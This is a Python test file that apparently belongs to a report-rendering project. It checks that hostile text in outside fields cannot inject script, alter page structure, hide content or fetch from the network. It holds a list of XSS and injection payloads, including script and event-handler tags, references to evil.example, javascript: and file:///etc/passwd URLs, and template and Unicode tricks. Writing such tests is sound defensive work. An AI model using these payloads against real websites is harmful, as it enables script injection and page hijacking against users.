"""Attacks in every text that comes from outside: none runs, asks, hides, or reorders anything.

The corpus is our own. A field gets all of it at once; then the page is held against the same page
with harmless texts: the same elements in the same order, but for what a text's length draws.
"""

from dataclasses import fields, is_dataclass, replace
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog

from wordkept.dossier.json_text import as_json
from wordkept.dossier.page import render_html
from wordkept.dossier.report import CaseReport
from wordkept.dossier.unseen import HARMFUL, reveal
from wordkept.ids import bytes_id
from wordkept.model import (
    Assessment,
    Bars,
    Behind,
    Document,
    Event,
    Finding,
    Passage,
    PublicationRule,
)  # fmt: skip
from wordkept.period import Period

RUN = "window.ran=(window.ran||0)+1"
ATTACKS = (
    f"<script>{RUN}</script>",
    f'"><script src="https://evil.example/a.js"></script><img src=x onerror="{RUN}">',
    f"'><svg onload='{RUN}'><script>{RUN}</script><style>body{{display:none}}</style></svg>",
    f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src onerror={RUN}>',
    "</style><style>*{display:none!important}</style>",
    f"</script><script>{RUN}//",
    f"</title></desc></text></svg><image href=x onerror={RUN}>",
    "<!-- everything after is gone", "--> <!-->", "<![CDATA[", "]]>", "<?xml version='1.0'?>",
    f"javascript:{RUN}", f"data:text/html,<script>{RUN}</script>", f"jAvA\tscript:{RUN}",
    "expression(alert(1))", "background:url(https://evil.example/b.png)",
    '" style="position:fixed;inset:0;background:red', f'" onmouseover="{RUN}" x="',
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<link rel=stylesheet href=https://evil.example/c.css>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe><iframe src=javascript:{RUN}>",
    f"<form action=https://evil.example/><input autofocus onfocus={RUN}><button>Send",
    f"<details open ontoggle={RUN}><summary>x</summary></details></details></details>",
    f"<a href='javascript:{RUN}' id='board'>To the board</a>", "<h1>Kept</h1><h2>Kept</h2>",
    "<template><plaintext><noscript><textarea><xmp><select>", "</main></body></html>",
    "{{ 7*7 }}{% raw %}{{ self.__init__ }}${7*7}<%= 7*7 %>{ids}{head}",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &#x3c;img&#x20;src=x&#x3e; &amp;lt; &NewLine;&colon;",
    "\u202eneddih\u202c \u202dLRO \u2066LRI without an end", "\u2067RLI \u2068FSI \u2029 \u2028",
    "زر القاعدة (نعم) 12/3 שלום", "\u200b\u200d\u2060\ufeff zero\u200bwidth \U000e0041\U000e0042",
    "z" + "\u0301" * 80 + " ก" + "\u0e47" * 80, "W" * 600, "\x00\x1b[2J\x08\r\n\t\x7f",
    "\ud800 unpaired \udfff", "¼ﷺ￾￿",
)  # fmt: skip
EVIL = " ".join((*ATTACKS, "7\u200b"))
LIKE = "7\u200b"
"""What every text ends in: a number is gated, an unseen character noted, and so in all alike."""
HARMLESS = f"A plain text of no great length, with a name in it. {LIKE}"
OUTSIDE = {
    "Pledge": {"title", "actor", "kind", "act", "object", "magnitude", "area", "comparator"},
    "Statement": {"speaker"},
    "Document": {"name", "title", "publisher", "tool", "author"},
    "Release": {"title", "citation", "licence", "file_name", "layout"},
    "PublicationRule": {"terms"},
    "SetAside": {"reason"},
    "Term": {"name", "said", "rules_out"},
    "Finding": {"check", "sentence"},
    "Bars": {"of", "first", "last"},
    "DailySeries": {"label"},
    "ControlResult": {"label", "reason", "sentence"},
    "Concurrent": {"title", "told_apart_by"},
    "Comparison": {"label", "sentence"},
    "Completeness": {"sentence"},
    "EffortCheck": {"label", "sentence"},
    "Count": {"unit", "tipping", "sentence"},
    "Tally": {"counted_by", "citation", "unit"},
    "Plan": {"threshold_reason", "misclassified_reason"},
    "Specification": {"area", "event_class", "duplicates"},
    "Symmetry": {"sentence"},
    "Event": {"place", "admin1", "country", "native_id", "side_a", "side_b", "reference"},
    "CaseReport": {"case", "command", "version"},
}
"""The fields of the model that hold words from outside; ids stay, since they join."""
VOWELLED = "\u0628\u0650\u0633\u0652\u0645\u0650 \u0627\u0644\u0644\u064e\u0651\u0647\u0650"
JOINED = "\u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645 \U0001f469\u200d\U0001f467"
LISTS = {"caveats", "leaves_open", "obstacles", "why_not_higher", "why_not_lower", "gates",
         "steps_down", "left_out", "actors", "examples"}  # fmt: skip


def poisoned(value: Any, text: str) -> Any:
    """The value with this text in every field of it that comes from outside."""
    if isinstance(value, tuple):
        return tuple(poisoned(one, text) for one in value)
    if not is_dataclass(value) or isinstance(value, type):
        return value
    named = OUTSIDE.get(type(value).__name__, set())
    changed: dict[str, Any] = {}
    for field in fields(value):
        held = getattr(value, field.name)
        if field.name in named and isinstance(held, str):
            changed[field.name] = text
        elif field.name in LISTS and held:
            changed[field.name] = (text,)
        elif not isinstance(value, (Document, Passage, Period)):
            changed[field.name] = poisoned(held, text)
    return replace(value, **changed)


def row(place: int, text: str) -> Event:
    day = date(2032, 3, 16)
    return Event(
        row=place, native_id=text, dataset="lethal", period=Period(day, day), place=text,
        admin1=text, admin2=None, country=text, lat=None, lon=None, radius_km=None,
        event_type="battle", native_type=None, side_a=text, side_b=text, deaths_low=1,
        deaths_best=2, deaths_high=3, events_best=1, reference=text,
    )  # fmt: skip


def hurt(report: CaseReport, text: str) -> CaseReport:
    """The report with this text everywhere: in its captures, its pledges, its records and rows."""
    bars = Bars(of="rows", values=(1.0, 4.0), first="a", last="b", marked=(1,))
    finding = Finding(check="heap", outcome="failed", dataset="lethal", sentence="", bars=bars)
    (drawn,) = (one for one in report.assessments if one.pledge.id == "withdrawal")
    behind = tuple(
        Behind(
            pledge="withdrawal", dataset=one.dataset, attribution=one.attribution, part="after",
            days=one.window, events=(row(1, text),) if one.dataset == "lethal" else None, rows=2,
        )
        for one in drawn.estimates
    )  # fmt: skip
    (document, _), *_ = report.documents
    captured = f"{text}\n\n{text} {text} {text}\n\n{text}"
    document = replace(poisoned_document(document, text), id=bytes_id(b"hostile"))
    start = len(text) * 2 + 3
    passage = Passage(document=document.id, start=start, end=start + len(text), quote=text)
    assessments = tuple(
        _quoting(poisoned(replace(one, findings=(*one.findings, finding)), text), passage)
        for one in report.assessments
    )
    whole = replace(report, board=poisoned(report.board, text), case=text, command=text,
                    version=text)  # fmt: skip
    return replace(whole, assessments=assessments, documents=((document, captured),), behind=behind)


def poisoned_document(document: Document, text: str) -> Document:
    return replace(
        document,
        name=text,
        title=text,
        publisher=text,
        tool=text,
        url=f"https://evil.example/?{text}",
    )


def _quoting(one: Assessment, passage: Passage) -> Assessment:
    verdict = replace(one.verdict, sentence=f"{one.verdict.word}: {passage.quote}")
    said = tuple(replace(statement, passages=(passage,)) for statement in one.pledge.statements)
    return replace(one, pledge=replace(one.pledge, statements=said), verdict=verdict)


class Outline(HTMLParser):
    """The elements of a page outside its drawings, with the names of their attributes."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, ...]] = []
        self.drawing = 0
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.drawing += tag == "svg"
        if not self.drawing:
            self.found.append((tag, *(name for name, _ in attrs)))

    def handle_endtag(self, tag: str) -> None:
        self.drawing -= tag == "svg"


@pytest.fixture(scope="module")
def hostile(report: CaseReport) -> str:
    return render_html(hurt(report, EVIL))


def test_the_page_keeps_its_structure(report: CaseReport, hostile: str) -> None:
    whole = Outline(hostile).found
    assert whole == Outline(render_html(hurt(report, HARMLESS))).found
    assert len(whole) > 500


def test_each_attack_alone_keeps_it_too(report: CaseReport) -> None:
    one = replace(report, assessments=report.assessments[2:3])
    whole = Outline(render_html(hurt(one, HARMLESS))).found
    for attack in ATTACKS:
        assert Outline(render_html(hurt(one, f"{attack} {LIKE}"))).found == whole, attack[:60]


def test_nothing_unseen_is_left_in_it(report: CaseReport, hostile: str) -> None:
    assert not HARMFUL.search(hostile.replace("\n", ""))
    assert "{{ 7*7 }}" in hostile
    hostile.encode("utf-8")
    as_json(hurt(report, EVIL)).encode("utf-8")


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", " JavaScript:alert(1)", "data:text/html,x", "file:///etc/passwd",
            "vbscript:x", "//evil.example", "http:evil", "http://[", "\x01javascript:alert(1)",
            "java\nscript:alert(1)"],
)  # fmt: skip
def test_an_address_that_is_not_of_the_web_is_no_link(report: CaseReport, url: str) -> None:
    (document, text), *_ = report.documents
    held = tuple(
        Behind(pledge="withdrawal", dataset=one.dataset, attribution=one.attribution, part="after",
               days=one.window, events=(replace(row(1, "x"), reference=url),), rows=1)
        for one in report.assessments[2].estimates if one.dataset == "lethal"
    )  # fmt: skip
    page = render_html(
        replace(report, documents=((replace(document, url=url), text),), behind=held)
    )
    linked = [one for one in Links(page).hrefs if not one.startswith(("#", "https://"))]
    assert linked == []


class Headings(HTMLParser):
    """The headings of a page, each by its tag and its id."""

    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in ("h1", "h2", "h3", "h4", "h5"):
            self.found.append(tag + (dict(attrs).get("id") or ""))


class Links(HTMLParser):
    def __init__(self, page: str) -> None:
        super().__init__(convert_charrefs=True)
        self.hrefs: list[str] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        del tag
        self.hrefs += [value or "" for name, value in attrs if name in ("href", "src", "action")]


def test_a_pile_of_marks_is_cut_and_counted() -> None:
    assert reveal("z" + "\u0301" * 80) == "z" + "\u0301" * 4 + "[76 more marks]"
    assert reveal(VOWELLED) == VOWELLED
    assert reveal(JOINED) == JOINED


def test_terms_decide_before_the_rows_do(report: CaseReport) -> None:
    """Rows that were handed over by mistake are not listed where the terms say otherwise."""
    shut = PublicationRule(allows="aggregates", at_least=3, terms="Only totals, please.")
    one = report.assessments[2]
    one = replace(one, releases=tuple(replace(held, publication=shut) for held in one.releases))
    behind = tuple(
        Behind(pledge="withdrawal", dataset="lethal", attribution="certain", part="after",
               days=made.window, events=(row(1, "a secret place"),), rows=1)
        for made in one.estimates
    )  # fmt: skip
    page = render_html(replace(report, assessments=(one,), behind=behind))
    assert "a secret place" not in page
    assert "no row of it is listed, by these terms: Only totals, please." in page


HEADINGS = "[...document.querySelectorAll('h1,h2,h3,h4,h5')]"
ISOLATED = """() => {
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  const loose = [];
  while (walker.nextNode()) {
    if (!walker.currentNode.data.includes('القاعدة')) continue;
    let at = walker.currentNode.parentElement, found = false;
    for (; at && at !== document.body && !found; at = at.parentElement)
      found = /isolate|plaintext/.test(getComputedStyle(at).unicodeBidi);
    if (!found) loose.push(walker.currentNode.parentElement.outerHTML.slice(0, 120));
  }
  return loose;
}"""
HIDDEN = f"""{HEADINGS}.filter(one => !one.closest('details:not([open])') && (
  one.getClientRects().length === 0 || one.getBoundingClientRect().width < 20
  || getComputedStyle(one).visibility !== 'visible')).length"""


@pytest.mark.browser
@pytest.mark.parametrize("script", [True, False], ids=["with script", "without"])
def test_in_a_browser_nothing_runs_asks_hides_or_reorders(
    browser: Browser, hostile: str, report: CaseReport, tmp_path: Path, *, script: bool
) -> None:
    written = tmp_path / "hostile.html"
    written.write_text(hostile, encoding="utf-8")
    context = browser.new_context(
        viewport={"width": 360, "height": 800}, java_script_enabled=script, offline=True
    )
    said: list[str] = []
    asked: list[str] = []

    def refuse(dialog: Dialog) -> None:
        said.append(dialog.message)
        dialog.dismiss()

    opened = context.new_page()
    opened.on("console", lambda message: said.append(message.text))
    opened.on("pageerror", lambda error: said.append(str(error)))
    opened.on("dialog", refuse)
    opened.on("request", lambda request: asked.append(request.url))
    opened.goto(written.as_uri())
    assert opened.evaluate("window.ran") is None
    assert opened.evaluate(HIDDEN) == 0
    assert opened.evaluate(ISOLATED) == []
    opened.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    assert opened.evaluate("document.documentElement.scrollWidth") <= 360
    found = opened.evaluate(f"{HEADINGS}.map(one => one.tagName.toLowerCase() + one.id)")
    assert found == Headings(render_html(hurt(report, HARMLESS))).found
    assert opened.evaluate("document.querySelectorAll('main').length") == 1
    context.close()
    assert said == []
    assert asked == [written.as_uri()]
